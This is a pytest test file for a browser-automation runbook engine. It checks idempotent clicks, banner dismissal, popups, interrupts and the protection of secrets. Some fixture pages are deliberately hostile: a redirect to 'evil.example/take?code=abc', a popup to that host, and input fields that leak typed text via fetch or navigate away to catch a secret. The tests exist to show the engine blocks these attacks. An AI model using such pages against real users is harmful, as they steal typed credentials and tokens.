"""The promises of a run, each tested against pages that would break it."""

from __future__ import annotations

import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from support.site_pages import Page, Played, Site, later
from support.virtual_display import display

from runwright.engine.run import step_state
from runwright.engine.run.context import RunContext

Play = Callable[..., Played]

KEY = "never-printed-4711"

FORM = """<title>Things</title><h1>Things</h1><ul id=list></ul>
<form method=post action=/add><label>Name <input name=name></label><button>Add</button></form>"""


def things(wait: float = 0.0, lose: bool = False) -> dict[str, object]:
    """A page with a list that appears late, and a form that adds to it."""

    def page(request: Request, site: Site) -> Response:
        items = "".join(f"<li><a href=#>{name}</a></li>" for name in site.kept.get("names", []))
        fill = f"document.getElementById('list').innerHTML = `{items}<li>end of list</li>`"
        return HTMLResponse("<!doctype html>" + FORM + later(wait, fill))

    def add(request: Request, site: Site) -> Response:
        import anyio.from_thread

        form = anyio.from_thread.run(request.form)
        site.effect("add", name=str(form["name"]))
        if not lose:
            site.kept.setdefault("names", []).append(str(form["name"]))
        return RedirectResponse("/", 303)

    return {"/": page, "/add": add}


ADD = """
sections:
  - name: Add the thing
    open: shop /
    ready: text "end of list"
    done_when: link "Lamp"
    steps:
      - fill: textbox "Name"
        with: Lamp
      - click: button "Add"
        changes: true
"""


def test_a_late_list_does_not_add_twice(play: Play) -> None:
    site = Site(things(wait=1.2))  # type: ignore[arg-type]
    assert play(site, ADD).statuses == ["changed"]
    assert play(site, ADD).statuses == ["unchanged"]
    assert site.kept["names"] == ["Lamp"]


@pytest.mark.usefixtures("short_limits")
def test_a_lost_save_fails_the_section(play: Play) -> None:
    played = play(things(lose=True), ADD)
    assert played.result.status == "failed", played.message
    assert 'link "Lamp"' in played.message
    assert played.site.count("POST", "/add") == 1


@pytest.mark.usefixtures("short_limits")
def test_a_page_that_is_never_ready_is_unknown_and_unchanged(play: Play) -> None:
    pages = {"/": "<title>Things</title><h1>Things</h1>" + FORM}
    played = play(pages, ADD.replace("end of list", "never"))
    assert played.result.exit == 4
    assert played.statuses == ["unknown"]
    assert played.site.count("POST", "/add") == 0


def test_check_changes_nothing(play: Play) -> None:
    played = play(things(), ADD, mode="check")
    assert (played.statuses, played.result.exit) == (["drift"], 1)
    assert played.site.count("POST", "/add") == 0
    done = Site(things(), kept={"names": ["Lamp"]})  # type: ignore[arg-type]
    assert play(done, ADD, mode="check").statuses == ["in sync"]


def test_a_click_that_hydration_swallows_is_retried(play: Play) -> None:
    added = "document.body.insertAdjacentHTML('beforeend', '<p>Opened</p>')"
    wake = f"document.querySelector('button').onclick = () => {added}"
    pages = {"/": "<title>A</title><button>Menu</button>" + later(1.5, wake)}
    played = play(
        pages,
        """
sections:
  - name: Open it
    open: shop /
    steps:
      - click: button "Menu"
        expect: text "Opened"
""",
    )
    assert played.statuses == ["unchanged"], played.message


def test_a_change_is_never_clicked_twice(play: Play) -> None:
    def hit(request: Request, site: Site) -> Response:
        site.effect("hit")
        return Response(status_code=204)

    page = "<title>A</title><h1>A</h1><button onclick=\"fetch('/hit', {method: 'POST'})\">Go</button>"
    played = play(
        {"/": page, "/hit": hit},
        """
sections:
  - name: Hit it
    open: shop /
    ready: heading "A"
    always_run: nothing shows it
    steps:
      - click: button "Go"
        changes: true
        expect: text "Never shown"
        timeout: 3s
""",
    )
    assert played.result.status == "failed"
    assert played.site.count("POST", "/hit") == 1


def test_effects_that_another_run_makes_at_its_own_site_are_not_this_runs(play: Play) -> None:
    def elsewhere(request: Request, site: Site) -> Response:
        site.effect_at("other.example", "save-settings")
        return Response(status_code=204)

    page = (
        "<title>A</title><h1>A</h1><button onclick=\"fetch('/hit').then(() => this.textContent = 'Done')\">Go</button>"
    )
    steps = '\n    steps:\n      - click: button "Go"\n        expect: button "Done"\n'
    played = play({"/": page, "/hit": elsewhere}, f"sections:\n  - name: Hit it\n    open: shop /{steps}")
    assert played.statuses == ["unchanged"], played.message


def test_a_plan_prints_no_secret(play: Play, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RUNWRIGHT_TEST_KEY", KEY)
    played = play(
        {"/": "<title>A</title><h1>A</h1>"},
        "sites: { shop: { url: https://shop.example, simulator: site } }\n"
        "secrets: { key: { description: The key, typed_at: shop, from: prompt } }\n"
        'sections: [{ name: Look, open: shop /, steps: [{ expect: heading "A" }] }]\nname: A test\n',
        secrets={"key": "env:RUNWRIGHT_TEST_KEY"},
    )
    assert played.plan.secrets == {"key": KEY} and KEY not in repr(played.plan)


@pytest.mark.parametrize("times", [1, 2])
def test_a_banner_that_appears_right_before_the_click_is_dismissed(play: Play, times: int) -> None:
    def hit(request: Request, site: Site) -> Response:
        site.effect("hit")
        return Response(status_code=204)

    page = f"""<title>A</title><h1>A</h1><button
        onmousemove="if (came < {times}) {{ came += 1; banner.hidden = false; }}"
        onclick="fetch('/hit', {{method: 'POST'}}).then(() => this.textContent = 'Gone')">Go</button>
        <div id=banner hidden style="position: fixed; inset: 0; background: #fffc">
        <button onclick="this.parentNode.hidden = true">Accept</button></div><script>let came = 0</script>"""
    played = play(
        {"/": page, "/hit": hit},
        """
dismiss:
  - seen: button "Accept"
    click: button "Accept"
sections:
  - name: Hit it
    open: shop /
    ready: heading "A"
    always_run: nothing shows it
    steps:
      - click: button "Go"
        changes: true
        expect: button "Gone"
        timeout: 2s
""",
    )
    ends = {1: ["changed"], 2: ["failed"]}  # a page that reopens its banner each time is left alone
    assert played.statuses == ends[times], played.message
    assert played.site.count("POST", "/hit") == (1 if times == 1 else 0)
    assert "`dismiss`" in played.message or times == 1


def test_a_field_that_alters_the_filled_text_fails_and_both_texts_are_shown(play: Play) -> None:
    page = '<title>A</title><label>Slug <input oninput="this.value = this.value.slice(0, 5)"></label>'
    played = play(
        {"/": page},
        """
sections:
  - name: Fill it
    open: shop /
    steps:
      - fill: textbox "Slug"
        with: a-long-slug
""",
    )
    assert played.result.status == "failed"
    assert "a-long-slug" in played.message and "“a-lon”" in played.message


def test_an_undeclared_change_fails_the_rehearsal(play: Play) -> None:
    played = play(things(), ADD.replace("        changes: true\n", ""))
    assert played.result.status == "failed"
    assert "add at shop.example" in played.message
    assert played.result.failure is not None and played.result.failure.nearest == ["changes: true"]


def test_a_redirect_to_a_foreign_host_is_never_requested(play: Play) -> None:
    def hop(request: Request, site: Site) -> Response:
        return RedirectResponse("https://evil.example/take?code=abc", 302)

    played = play(
        {"/": "<title>A</title><a href=/hop>Go</a>", "/hop": hop, "//evil.example/take": "taken"},
        """
sections:
  - name: Follow it
    open: shop /
    steps:
      - click: link "Go"
      - expect: text "taken"
""",
        others=("https://evil.example",),
    )
    assert played.result.status == "failed"
    assert "https://evil.example" in played.message
    assert not [host for _, host, path in played.site.asked if host == "evil.example" and path == "/take"]
    assert played.events("blocked")


def test_a_popup_to_a_foreign_host_is_never_requested(play: Play) -> None:
    page = "<title>A</title><button onclick=\"window.open('https://evil.example/take')\">Go</button>"
    played = play(
        {"/": page, "//evil.example/take": "taken"},
        """
sections:
  - name: Follow it
    open: shop /
    steps:
      - click: button "Go"
      - expect: text "taken"
""",
        others=("https://evil.example",),
    )
    assert played.result.exit != 0
    assert not [host for _, host, path in played.site.asked if host == "evil.example" and path == "/take"]
    assert played.events("blocked")


def test_a_popup_on_the_site_is_the_current_page_until_it_closes(play: Play) -> None:
    pages = {
        "/": "<title>A</title><h1>Opener</h1><button onclick=\"window.open('/pop')\">Go</button>",
        "/pop": '<title>B</title><h1>Popup</h1><button onclick="window.close()">Done</button>',
    }
    played = play(
        pages,
        """
sections:
  - name: Through it
    open: shop /
    steps:
      - click: button "Go"
        expect: heading "Popup"
      - click: button "Done"
        expect: heading "Opener"
""",
    )
    assert played.statuses == ["unchanged"], played.message


def test_a_failure_shows_similar_controls_after_the_limit_of_an_action(
    play: Play, monkeypatch: pytest.MonkeyPatch
) -> None:
    limits = []
    until = RunContext.until

    def recorded(context: RunContext, read: Callable[[], Any], seconds: float) -> Any:
        limits.append(seconds)
        return until(context, read, seconds)

    monkeypatch.setattr(RunContext, "until", recorded)
    page = (
        "<title>A</title><h1>Settings</h1><button>Save changes</button><button>Cancel</button><p role=alert>Not yet</p>"
    )
    played = play(
        {"/": page},
        """
sections:
  - name: Save it
    open: shop /
    steps:
      - click: button "Save"
        follows: 2.3
""",
    )
    assert limits[-1] == step_state.ACTION, "the search for the control is the last thing that waits"
    failure = played.result.failure
    assert failure is not None and played.result.exit == 1
    assert failure.nearest[0] == 'button "Save changes"'
    assert failure.page_messages == ["Not yet"]
    assert failure.candidates[0].box is not None
    step = played.events("step")[-1]
    assert (step["status"], step["follows"], step["line"]) == ("failed", "2.3", 11)
    assert step["screenshots"][-1]["moment"] == "failure"


def test_several_matches_are_an_error_that_lists_them(play: Play) -> None:
    page = "<title>A</title><button>Save</button><button>Save</button>"
    played = play({"/": page}, 'sections:\n  - name: S\n    open: shop /\n    steps:\n      - click: button "Save"\n')
    assert "2 controls match" in played.message
    assert played.result.failure is not None
    assert played.result.failure.nearest == ['button "Save" [nth=1]', 'button "Save" [nth=2]']


def test_a_page_that_keeps_changing_is_waited_for(play: Play) -> None:
    script = """<p id=n>0</p><script>
    document.querySelector('button').onclick = () => { let n = 0; const step = () => {
      document.getElementById('n').textContent = ++n; if (n < 30) setTimeout(step, 50); }; step(); };</script>"""
    played = play(
        {"/": "<title>A</title><button>Go</button>" + script},
        """
sections:
  - name: Wait for it
    open: shop /
    steps:
      - click: button "Go"
      - read: css "#n"
        into: n
""",
    )
    assert [event["read"] for event in played.events("step") if event["verb"] == "read"] == [{"n": "30"}]


def test_ctrl_c_ends_the_run_in_order(play: Play) -> None:
    event = threading.Event()

    def loaded(request: Request, site: Site) -> Response:
        threading.Timer(2.0, event.set).start()
        return Response(status_code=204)

    played = play(
        {"/": "<title>A</title><h1>A</h1><script>fetch('/loaded')</script>", "/loaded": loaded},
        """
sections:
  - name: Wait
    open: shop /
    steps:
      - expect: text "Never"
        timeout: 60s
""",
        interrupt=event,
    )
    assert (played.result.status, played.result.exit) == ("interrupted", 130)
    assert [event["event"] for event in played.events()][-1] == "end"
    assert played.events("step")[-1]["screenshots"]


def test_a_signed_out_page_stops_a_run_without_a_window(play: Play) -> None:
    book = """name: A test
sites:
  shop:
    url: https://shop.example
    simulator: site
    signed_out_when: link "Sign in"
sections:
  - name: Look
    open: shop /
    ready: heading "Inside"
    steps:
      - click: button "Go"
"""
    played = play({"/": "<title>A</title><a href=/in>Sign in</a>"}, book)
    assert (played.result.status, played.result.exit) == ("stopped", 3)
    assert played.next_actions == [("sign_in", ())]


def test_a_section_that_waits_for_somebody_has_the_status_waiting(play: Play) -> None:
    book = ADD.replace("    done_when", '    waits_when: text "Pending approval"\n    done_when')
    played = play({"/": FORM + "<p>Pending approval</p>"}, book)
    assert (played.statuses, played.result.exit) == (["waiting"], 3)
    assert played.site.count("POST", "/add") == 0


def test_waits_for_is_the_reason_of_a_waiting_section(play: Play) -> None:
    sentence = "The owner must approve the ${thing} under Billing. Run this again once they have."
    waits = f'    waits_when: text "Pending approval"\n    waits_for: "{sentence}"\n    done_when'
    book = "inputs:\n  thing: { description: What is added, default: Lamp }\n" + ADD.replace("    done_when", waits)
    played = play({"/": FORM + "<p>Pending approval</p>"}, book)
    checked = play({"/": FORM + "<p>Pending approval</p>"}, book, mode="check")
    for each in (played, checked):
        assert (each.statuses, each.result.exit) == (["waiting"], 3)
        assert each.result.sections[0].reason == sentence.replace("${thing}", "Lamp")


REFUSED = """
sections:
  - name: Look
    open: shop /
    steps:
      - manual: An admin of the shop must allow it, under Members. Run this again then.
        when: text "Refused"
      - manual: Somebody has made a new token since it was stored.
        when: text "Invalid token"
        redo: Look
"""


@pytest.mark.parametrize("headed", [False, True])
def test_a_manual_step_without_until_stops_the_run_with_and_without_a_window(
    play: Play, monkeypatch: pytest.MonkeyPatch, headed: bool
) -> None:
    with display(monkeypatch):
        played = play({"/": "<title>A</title><p>Refused</p>"}, REFUSED, headed=headed)
    assert (played.result.status, played.result.exit) == ("stopped", 3)
    assert played.message == "An admin of the shop must allow it, under Members. Run this again then."
    assert played.next_actions == [("resume", ())]


def test_a_section_to_run_again_is_a_next_action(play: Play) -> None:
    played = play({"/": "<title>A</title><p>Invalid token</p>"}, REFUSED)
    assert (played.result.status, played.result.exit) == ("stopped", 3)
    assert played.message == "Somebody has made a new token since it was stored."
    assert played.next_actions == [("redo", ("Look",))]


@pytest.mark.parametrize(
    ("address", "message"),
    [
        (
            "http://shop.example/a",
            "https://shop.example leads to http://shop.example/a, without https. Nothing was sent there: anybody on "
            "the network could read it. Have shop.example lead to https addresses only, then run this again.",
        ),
        (
            "http://other.example/a",
            "Navigation to http://other.example/a blocked: the address belongs to none of the runbook's sites.",
        ),
    ],
)
def test_a_redirect_without_https_and_a_foreign_address_have_different_messages(
    play: Play, address: str, message: str
) -> None:
    pages: dict[str, Page] = {
        "/": '<title>A</title><a href="/a">On</a>',
        "/a": lambda request, site: RedirectResponse(address, 303),
    }
    book = 'sections:\n  - name: S\n    open: shop /\n    steps:\n      - click: link "On"\n'
    played = play(pages, book, others=("http://other.example",))
    assert (played.result.status, played.result.exit) == ("failed", 1)
    assert played.message == message
    failure = played.result.failure
    assert failure is not None and failure.nearest == (["also: [http://other.example]"] if "other" in address else [])
    assert played.site.count("GET", "/a") == 1


def test_a_change_whose_request_fails_stops_for_a_person(play: Play) -> None:
    page = "<title>A</title><h1>A</h1><button onclick=\"fetch('/hit', {method: 'POST'})\">Go</button>"
    played = play(
        {"/": page, "/hit": lambda request, site: Response(status_code=500)},
        """
sections:
  - name: Hit it
    open: shop /
    ready: heading "A"
    done_when: text "Done"
    steps:
      - click: button "Go"
        changes: true
""",
    )
    assert (played.result.status, played.result.exit) == ("stopped", 3)
    assert "answered with status 500" in played.message
    assert played.site.count("POST", "/hit") == 1


def test_a_change_that_redirects_to_a_failing_page_stops_for_a_person(play: Play) -> None:
    form = "<title>A</title><h1>A</h1><form method=post action=/hit><button>Go</button></form>"
    played = play(
        {
            "/": form,
            "/hit": lambda request, site: RedirectResponse("/after", 303),
            "/after": lambda request, site: HTMLResponse("It broke", 502),
        },
        """
sections:
  - name: Hit it
    open: shop /
    ready: heading "A"
    done_when: text "Done"
    steps:
      - click: button "Go"
        changes: true
        expect: text "Done"
""",
    )
    assert (played.result.status, played.result.exit) == ("stopped", 3)
    assert "/after was answered with status 502" in played.message
    assert played.result.steps[-1].failure is not None
    assert "502" in " ".join(played.result.steps[-1].failure.page_messages)
    assert played.site.count("POST", "/hit") == 1


ELSEWHERE = """<title>B</title><label>Token <input autofocus oninput="fetch('/leak?' + this.value)"></label>"""
"""A page that must not get the secret, and leaks whatever is typed."""


def typing(verb: str, page: str, secret: Path) -> tuple[dict[str, str], str]:
    book = f"""name: A test
sites:
  shop: {{ url: https://shop.example, simulator: site }}
  other: {{ url: https://other.example, simulator: site }}
secrets:
  token: {{ description: The token, typed_at: shop, from: "file:{secret}" }}
sections:
  - name: Type it
    open: shop /
    steps:
      - {verb}: textbox "Token"
        with: ${{token}}
"""
    return {"/": page, "//other.example/": ELSEWHERE}, book


def leaks(played: Played) -> int:
    return sum("leak" in path for _, _, path in played.site.asked)


def test_a_secret_is_not_typed_where_it_is_not_allowed(play: Play, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("hunter2-hunter2-hunter2")
    page = """<title>A</title><label>Token <input onfocus="location = 'https://other.example/'"></label>"""
    pages, book = typing("fill", page, tmp_path / "secret")
    played = play(pages, book.replace("      - fill", '      - click: textbox "Token"\n      - fill', 1))
    assert played.result.status == "failed"
    assert "may be typed at https://shop.example, not at https://other.example" in played.message
    assert leaks(played) == 0
    assert b"hunter2" not in played.everything()


@pytest.mark.parametrize("verb", ["fill", "type", "paste"])
def test_a_page_that_navigates_right_before_typing_gets_no_secret(
    play: Play, tmp_path: Path, verb: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "secret").write_text("hunter2-hunter2-hunter2")
    reveal = RunContext.reveal

    def reveal_then_navigate(context: RunContext, value: Any) -> str:
        text = reveal(context, value)
        context.page.goto("https://other.example/")
        return text

    monkeypatch.setattr(RunContext, "reveal", reveal_then_navigate)
    played = play(*typing(verb, "<title>A</title><label>Token <input></label>", tmp_path / "secret"))
    assert any(host == "other.example" for _, host, _ in played.site.asked), "the page did not navigate"
    assert played.result.status == "failed"
    assert leaks(played) == 0
    assert b"hunter2" not in played.everything()


def test_a_page_that_navigates_while_a_secret_is_typed_gets_no_more_of_it(play: Play, tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("hunter2-" * 40)
    page = """<title>A</title><label>Token <input oninput="location = 'https://other.example/'"></label>"""
    played = play(*typing("type", page, tmp_path / "secret"))
    assert any(host == "other.example" for _, host, _ in played.site.asked), "the page did not navigate"
    assert played.result.status == "failed"
    assert leaks(played) <= 1, "before each key the field is located: only the key under way may miss it"
    assert b"hunter2" not in played.everything()


def test_an_empty_run_is_not_successful(play: Play) -> None:
    played = play({"/": "x"}, "sections:\n  - name: S\n    open: shop /\n    when: ${false}\n    steps: []\n")
    assert played.result.exit != 0


def test_a_secret_is_redacted_before_navigation_reads_it(play: Play) -> None:
    """The page opens, and gets a screenshot, before `navigation` reads the secret that it shows in clear text."""
    page = "<title>A</title><h1>A</h1><p>The token</p><code>hunter2-hunter2-hunter2</code><button>Go</button>"
    book = """
secrets:
  token: { description: The token }
sections:
  - name: Read it
    open: shop /
    navigation:
      - read: css "code"
        into: token
        match: "[a-z0-9-]+"
    ready: heading "A"
    steps:
      - click: button "Go"
"""
    played = play({"/": page}, book)
    assert played.statuses == ["unchanged"], played.message
    screenshots = [screenshot for step in played.events("step") for screenshot in step["screenshots"]]
    assert len(screenshots) >= 4
    assert all([area["name"] for area in screenshot["redacted"]] == ["token"] for screenshot in screenshots), (
        screenshots
    )
    assert b"hunter2" not in played.everything()


def test_a_secret_whose_target_depends_on_a_later_value_does_not_fail_the_run(play: Play) -> None:
    page = "<title>A</title><h1>A</h1><p id=id>row-7</p><code title=row-7>hunter2-hunter2</code>"
    book = """
secrets:
  token: { description: The token }
sections:
  - name: Read it
    open: shop /
    steps:
      - read: css "#id"
        into: row
      - read: css "code[title=${row}]"
        into: token
"""
    played = play({"/": page}, book)
    assert played.statuses == ["unchanged"], played.message
    assert b"hunter2" not in played.everything()
